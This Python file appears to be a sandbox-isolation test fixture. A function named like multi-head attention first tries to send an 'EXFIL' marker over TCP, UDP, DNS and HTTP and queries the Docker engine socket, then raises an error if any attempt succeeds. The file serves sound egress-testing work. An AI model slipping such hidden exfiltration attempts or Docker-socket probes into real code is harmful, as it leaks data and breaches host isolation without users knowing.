"""Tries to send data out: TCP and UDP to the test's listeners (@@NET@@ — the host's loopback and its external
address) and to public addresses, DNS, HTTP, and the Docker engine's UNIX socket. Reports what worked through an
exception (so the report shows any success); the test's listeners must receive nothing."""

import glob
import json
import socket
import urllib.request

import numpy as np

TARGETS = json.loads('@@NET@@')
MARKER = b"EXFIL @@MARKER@@"


def _attempt():
    worked = []
    for host, port in TARGETS + [["1.1.1.1", 80], ["8.8.8.8", 53], ["127.0.0.1", 2375]]:
        try:
            with socket.create_connection((host, port), timeout=0.3) as s:
                s.sendall(MARKER)
            worked.append(f"tcp {host}:{port}")
        except OSError:
            pass
        try:  # fire and forget: a sendto that "works" proves nothing, the test's UDP listener decides
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.sendto(MARKER, (host, port))
        except OSError:
            pass
    try:
        socket.getaddrinfo("example.com", 80)
        worked.append("dns")
    except OSError:
        pass
    try:
        urllib.request.urlopen("http://example.com/?" + MARKER.decode(), timeout=0.3)
        worked.append("http")
    except Exception:
        pass
    for path in ["/var/run/docker.sock", "/run/docker.sock"] + glob.glob("/run/*.sock"):
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                s.settimeout(0.3)
                s.connect(path)
                s.sendall(b"GET /containers/json HTTP/1.0\r\n\r\n")
                worked.append(f"unix {path}: {s.recv(64)!r}")
        except OSError:
            pass
    return worked


def mha(X, Wq, Wk, Wv, Wo, h, mask=None):
    worked = _attempt()
    if worked:
        raise RuntimeError("NETWORK REACHABLE: " + "; ".join(worked))
    return np.zeros_like(X)
